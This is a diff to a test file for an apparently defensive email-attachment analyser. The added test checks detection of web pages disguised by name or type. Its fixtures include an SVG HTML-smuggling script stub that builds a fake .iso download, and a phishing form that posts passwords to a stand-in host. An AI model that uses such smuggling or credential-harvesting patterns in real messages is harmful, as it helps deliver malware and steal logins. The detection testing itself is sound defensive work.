@@ -674,6 +674,26 @@ def test_attachments_by_content() -> None:
     assert attachments.analyse(parse_message(doc), Envelope(), CTX) == []
 
 
+def test_a_page_is_a_page_by_its_name_its_type_or_its_first_bytes() -> None:
+    """The parser (links) and the attachment analyser (forms, smuggling) agree on what is a web
+    page: an SVG declared only by its type, markup that starts with a form under a neutral
+    name, in a message or in a zip."""
+    smuggler = (
+        b"<svg><script>var b=atob('TVqQ');new Blob([b]);a.download='x.iso'</script>base64</svg>"
+    )
+    form = b"<form action='https://owa-verify.example/post.php'><input type=password></form>"
+    cases = [
+        ("image.dat", smuggler, "image/svg+xml", "attachments.html_smuggling"),
+        ("scan.dat", form, "application/octet-stream", "attachments.credential_page"),
+        ("scans.zip", _zip({"scan.dat": form}), "application/zip", "attachments.credential_page"),
+    ]
+    for name, data, ctype, expect in cases:
+        msg = parse_message(message(attachments=[(name, data, ctype)]))
+        assert expect in names(attachments.analyse(msg, Envelope(), CTX)), name
+        if expect == "attachments.credential_page" and ctype != "application/zip":
+            assert "https://owa-verify.example/post.php" in [link.url for link in msg.links]
+
+
 def test_trusted_authentication_results_only() -> None:
     ar = "mx.portofantwerpbruges.com; spf=fail smtp.mailfrom=x; dmarc=fail header.from=y"
     raw = message(sender="IT <it@portofantwerpbruges.com>", headers={"Authentication-Results": ar})
